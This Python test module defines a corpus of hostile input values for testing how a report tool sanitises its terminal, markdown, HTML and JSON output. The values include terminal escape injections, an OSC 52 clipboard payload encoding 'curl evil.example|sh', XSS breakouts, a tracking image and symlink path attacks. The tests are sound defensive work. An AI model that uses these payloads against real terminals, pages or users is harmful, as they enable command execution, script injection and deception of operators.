"""The hostile corpus: values a stranger can put in a report, DNS or HTTP answer, SMTP reply or certificate.

Each case says what it attacks. Tests of every output medium (terminal, markdown, HTML, JSON) feed them in.

A case is a short name, the value, and the attack in one line.
"""

from __future__ import annotations

from typing import NamedTuple


class Case(NamedTuple):
    """One hostile value."""

    name: str
    value: str
    attacks: str


#: What every script payload below runs: it marks the page, so a test sees in the DOM whether any of them ran.
OWN = "document.documentElement.dataset.owned=1"

CORPUS: tuple[Case, ...] = (
    # terminal
    Case("osc-title", "\x1b]0;OWNED\x07", "terminal: OSC 0 retitles the operator's window"),
    Case("csi-clear", "\x1b[2J\x1b[H", "terminal: CSI clears the screen and homes the cursor (hides earlier output)"),
    Case("osc8-link", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", "terminal: OSC 8 hidden hyperlink"),
    Case("osc52-clip", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07", "terminal: OSC 52 writes the clipboard"),
    Case("c1-csi", "\x9b2J\x9d0;c1\x9c", "terminal: 8-bit C1 CSI/OSC/ST on terminals that honour them"),
    Case("cr-overwrite", "pass\rFAIL", "terminal: carriage return overwrites what was printed on the line"),
    Case("backspace", "failure\b\b\b\b\b\b\bsuccess", "terminal: backspaces overwrite a word"),
    Case("nul-del", "a\x00b\x7fc", "terminal: NUL and DEL reach the terminal raw"),
    Case("bell-vt-ff", "\x07\x0b\x0c", "terminal: bell, vertical tab, form feed"),
    Case("newline-row", "x\nexample.com  enforce  ok", "terminal/markdown: a newline forges a row or line"),
    Case("tab", "a\tb", "terminal: tab breaks column alignment"),
    Case("bidi-rlo", "\u202egro.elpmaxe", "terminal: right-to-left override shows a name reversed (Trojan Source)"),
    Case("bidi-isolate", "\u2066evil\u2069\u2067x\u2069\u200f\u061c", "terminal: bidi isolates and marks reorder text"),
    Case(
        "rich-markup",
        "[link=https://evil.example/]click[/link] [reverse]x[/]",
        "terminal: rich markup makes an OSC 8 link",
    ),
    Case("line-sep", "a\u2028b\u2029c\ufeff", "terminal/JSON-in-script: line and paragraph separators, BOM"),
    # markdown
    Case("md-link", "[click me](https://evil.example/)", "markdown: inline link"),
    Case("md-image", "![x](https://evil.example/pixel.png)", "markdown: image fetched by every reader (tracking)"),
    Case("md-autolink", "<https://evil.example/>", "markdown: autolink"),
    Case("md-bare-url", "see https://evil.example/ and www.evil.example", "markdown: GFM extended autolinks"),
    Case("md-ref-link", "[x][1]\n\n[1]: https://evil.example/", "markdown: reference link definition"),
    Case("md-html", "<img src=x onerror=alert(1)>", "markdown/HTML: raw HTML with an event handler"),
    Case("md-mention", "@admins please merge", "markdown: @mention notifies people"),
    Case("md-email", "abuse@evil.example", "markdown: GFM email autolink"),
    Case("md-pipe", "a | b | c", "markdown: | splits a table cell"),
    Case("md-fence", "```\ncode\n```", "markdown: code fence swallows the rest of the document"),
    Case("md-backticks", "``x` ` ``", "markdown: backticks close a code span early"),
    Case("md-heading", "# Approved", "markdown: heading or list item at the start of a line"),
    Case("md-entity", "&lt;script&gt; &#x40;admins", "markdown: entities decode to markup or a mention"),
    Case("md-emphasis", "**bold** _x_ ~~y~~", "markdown: emphasis and strikethrough"),
    # HTML
    Case("html-script", f"</script><script>{OWN}</script>", "HTML: ends the JSON <script> and runs code"),
    Case("html-attr", f'" onmouseover="{OWN}" x="', "HTML: breaks out of a double-quoted attribute"),
    Case("html-attr-single", f"' autofocus onfocus='{OWN}' x='", "HTML: single-quoted attribute breakout"),
    Case("html-svg", f"<svg onload={OWN}>", "HTML: inline SVG with an onload handler"),
    Case("html-js-url", f"javascript:{OWN}", "HTML: javascript: URL in an href"),
    Case("html-comment", "<!-- <script>", "HTML: opens a comment or script-data state in <script>"),
    Case("html-css", "</style><style>*{background:url(https://evil.example/c)}</style>", "HTML: CSS fetches a URL"),
    # JSON
    Case("json-surrogate", "\ud800x\udfff", "JSON/terminal: lone surrogates cannot be encoded as UTF-8"),
    Case("json-quote", '"}, {"ok": true', "JSON: quote and brace break out of a string"),
    Case("long", "A" * 5000, "layout: a value far wider than any terminal"),
)

#: Values a TLS-RPT report can carry through the parser (which rejects lone surrogates: report.py, RFC 8259 §8.2).
REPORT_SAFE = tuple(c for c in CORPUS if c.name != "json-surrogate")

#: Every character no output may carry raw: C0 but newline, DEL, C1, bidi controls, separators, BOM, surrogates.
FORBIDDEN = frozenset(
    [chr(c) for c in range(0x20) if c != 0x0A]
    + [chr(c) for c in range(0x7F, 0xA0)]
    + ["\u061c", "\u200e", "\u200f", "\u2028", "\u2029", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e"]
    + ["\u2066", "\u2067", "\u2068", "\u2069", "\ufeff"]
)


def forbidden_in(text: str) -> set[str]:
    """The forbidden characters (and lone surrogates) in ``text``."""
    return {c for c in text if c in FORBIDDEN or "\ud800" <= c <= "\udfff"}


#: One string carrying every terminal attack of the corpus (the cases before the markdown ones), for report fields.
TERMINAL_ATTACKS = " ".join(c.value for c in CORPUS[: [c.name for c in CORPUS].index("md-link")])

#: What a hostile working tree (a pull request's files, checked out in CI) plants where a command writes a file
#: (mtasts.outfile). ``value`` is the layout or the event; tests/fleet/test_output_files.py runs the layouts
#: against every command that writes, tests/test_outfile.py the events.
FILE_CORPUS: tuple[Case, ...] = (
    Case("file-symlink", "out -> ../outside/bashrc", "files: a link at the output path overwrites a file elsewhere"),
    Case("file-dangling-symlink", "out -> ../outside/new", "files: a dangling link creates a file where it points"),
    Case("file-linked-folder", "evidence -> ../outside; out: evidence/out", "files: a linked folder leaves the tree"),
    Case("file-dot-dot", "out: ../outside/out", "files: .. climbs out of the working tree"),
    Case("file-absolute", "out: /…/outside/out", "files: an absolute path outside the working tree"),
    Case("file-temporary-name", ".mtasts-<random>.tmp -> ../outside/bashrc", "files: a link at the temporary name"),
    Case("file-race", "out becomes a link between check and write", "files: check-then-write (TOCTOU)"),
    Case("file-partial", "disk full half-way through the write", "files: a half-written page or state file"),
)
